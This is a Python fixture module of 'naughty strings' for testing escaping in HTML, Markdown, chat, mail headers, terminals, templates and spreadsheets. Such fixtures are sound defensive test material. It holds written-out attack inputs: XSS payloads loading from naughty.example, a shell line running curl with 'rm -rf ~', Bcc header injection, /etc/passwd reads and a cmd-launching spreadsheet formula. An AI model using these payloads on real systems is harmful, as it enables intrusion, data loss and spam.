"""Texts that do harm in HTML, Markdown, chats, mail headers, terminals or templates unless they are escaped.

We wrote these texts. They are similar to the texts in the Big List of Naughty Strings. In a web page they open a dialog
or contact the host `naughty.example`. CLAUSEWATCH_NAUGHTY may name a file with a JSON list of further texts, such as
the list of the package `blns`.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

HOST = "naughty.example"

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//naughty.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x0b>alert(1)</script\x0c>",
    "<img src=//naughty.example/p.png>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'/>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) autofocus onfocus=alert(1) x=`",
    '" style="position:fixed;inset:0;background:url(//naughty.example/b)" x="',
    "' onfocus='alert(1)' autofocus tabindex='0",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<body onload=alert(1)>",
    "<iframe src=//naughty.example/f></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=//naughty.example/o></object><embed src=//naughty.example/e>",
    "<video autoplay onloadstart=alert(1) src=//naughty.example/v><source onerror=alert(1)></video>",
    "<audio src=//naughty.example/a autoplay></audio>",
    "<link rel=stylesheet href=//naughty.example/s.css>",
    "<style>@import '//naughty.example/s.css';*{background:url(//naughty.example/u)}</style>",
    "</style><style>body{display:none}</style>",
    "</title><script>alert(1)</script><title>",
    "</textarea><script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=//naughty.example/m'>",
    "<base href=//naughty.example/>",
    "<form action=//naughty.example/form><input autofocus onfocus=alert(1)><button>ok</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 'x' ?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u02ba\u02c2script\u02c3alert(1)",
    "<template><script>alert(1)</script></template><x is=x>",
    "<portal src=//naughty.example/p></portal>",
    "<div style='background-image:url(//naughty.example/d)'>x</div>",
    "<table background=//naughty.example/t><td>x</td></table>",
    "<input type=image src=//naughty.example/i>",
    "<bgsound src=//naughty.example/s><isindex action=javascript:alert(1) type=image>",
    "]]></ins></del></div></body></html><script>alert(1)</script>",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://naughty.example/"onmouseover=alert(1)//',
    "https://naughty.example/'><script>alert(1)</script>",
    "https://user:pass@naughty.example/",
    "//naughty.example/x",
    "\\\\naughty.example\\share",
    "file:///etc/passwd",
)

MARKDOWN = (
    "[bank](https://naughty.example/)",
    "![pixel](https://naughty.example/p.png)",
    "[x]: https://naughty.example/ 'y'",
    "<https://naughty.example/|your bank>",
    "<https://naughty.example/>",
    "[click](javascript:alert(1))",
    "**bold** __bold__ *it* _it_ ~~gone~~ ||spoiler|| `code` ```block```",
    "\\*not\\* \\[x\\](https://naughty.example)",
    "# heading",
    "> quote",
    "- item",
    "1. item",
    "| a | b |\n|---|---|",
    "---",
    "`` ` `` </code><script>alert(1)</script>",
)

MENTIONS = (
    "@everyone @here @channel @all @room",
    "<!everyone> <!here> <!channel> <!subteam^S012|x>",
    "<@U024BE7LH> <@!123> <@&456> <#C024BE7LR> <#123>",
    "<t:0:R> <:x:1> </cmd:1> <id:guide>",
    "@\u200beveryone",
    "tg://user?id=1 /start@bot #tag $TAG",
    ":tada: ::: :skull_and_crossbones:",
    "<at>everyone</at>",
)

HEADERS = (
    "Teahouse\r\nBcc: victim@naughty.example",
    "Teahouse\nSubject: other\n\nbody",
    "Teahouse\rX-Injected: yes",
    "Teahouse\r\n\r\n<script>alert(1)</script>",
    "Teahouse\x00\x00",
    "Teahouse\u2028Bcc: victim@naughty.example",
    "Teahouse\u2029\x85\x0b\x0cBcc: victim@naughty.example",
    "=?utf-8?q?=0D=0ABcc:_victim=40naughty.example?=",
    "=?utf-8?b?DQpCY2M6IHZpY3RpbUBuYXVnaHR5LmV4YW1wbGU=?=",
    "=?utf-7?q?+ADw-script+AD4-?=",
    "%0d%0aBcc: victim@naughty.example",
    '"a" <victim@naughty.example>, x@y.example',
    "victim@naughty.example",
    "\r\n.\r\nMAIL FROM:<x@naughty.example>\r\n",
    ".\r\n..\r\n",
    "a" * 3000,
    "\u00e9" * 1200,
)

TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://naughty.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBuYXVnaHR5LmV4YW1wbGU=\x07",
    "\x9b31m\x9d0;x\x9c",
    "\x08\x08\x08\x7f",
    "\x07\x07",
    "safe\rEVIL",
    "$(curl naughty.example) `id` ; rm -rf ~ && echo",
    "' ; curl naughty.example #",
    "--config=/etc/passwd",
)

LETTERS = (
    "safe\u202egnp.exe",
    "\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\ud800 \udfff",
    "\ufffe\uffff",
    "Z\u0351\u036b\u0343\u032f\u0316a\u0334\u0335\u033cl\u0338g\u0321o\u0322",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1ee\U0001f1e9",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "\u202bRTL\u202c \u0e01\u0e34\u0e49\u0e49\u0e49",
    "\U000e0041\U000e0042\U000e007f",
    "\u2000\u2001\u3000\u00a0\u180e",
    "",
    " ",
    "\t\n",
)

TEMPLATES = (
    "{{ 7 * 7 }}{% for x in y %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{# comment #}",
    "{0} {policy} {policy.__class__.__mro__}",
    "%s %n %(x)s",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__ }}",
)

FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", '=HYPERLINK("https://naughty.example")', "=cmd|' /C calc'!A0")


def _more() -> list[str]:
    """Return the texts of the list in CLAUSEWATCH_NAUGHTY that are not blank."""
    named = os.environ.get("CLAUSEWATCH_NAUGHTY")
    listed = json.loads(Path(named).read_text(encoding="utf-8")) if named else []
    return [text for text in listed if text.strip()]


OWN = (*HTML, *ADDRESSES, *MARKDOWN, *MENTIONS, *HEADERS, *TERMINAL, *LETTERS, *TEMPLATES, *FORMULAS)
NAUGHTY = tuple(dict.fromkeys((*OWN, *_more())))
